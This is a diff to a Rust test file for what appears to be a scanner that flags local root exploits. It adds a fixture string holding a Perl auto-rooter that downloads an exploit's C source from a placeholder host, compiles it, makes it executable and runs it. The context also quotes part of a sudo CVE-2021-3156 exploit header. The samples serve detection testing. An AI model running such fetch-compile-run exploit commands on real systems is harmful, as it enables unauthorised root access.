@@ -482,6 +482,10 @@ fn local_root_exploits_are_found() {
     assert_eq!(whys(preload), [Why::LocalRootExploit]);
     let sudo = "#!/usr/bin/python3\n'''\nExploit for CVE-2021-3156 with overwrite struct service_user\n'''\nimport os\nSUDO_PATH = b\"/usr/bin/sudo\"\n";
     assert_eq!(whys(sudo), [Why::LocalRootExploit]);
+    // fresh131's auto-rooter downloads exploits' sources, compiles and runs them.
+    let auto = "#!/usr/bin/perl\nsystem(\"wget www.example.org/hack/exploits/kernel/local-root-exploit-x.c\");\n\
+                system(\"gcc -o x local-root-exploit-x.c\");\nsystem(\"chmod 777 x\");\nsystem(\"./x\");\nsystem(\"id\");\n";
+    assert_eq!(whys(auto), [Why::LocalRootExploit]);
     // A site's deploy script using sudo, and a scanner's note on a CVE it has no hole for.
     let deploy = "#!/bin/sh\n/usr/bin/sudo systemctl reload php-fpm\n";
     assert_eq!(whys(deploy), []);
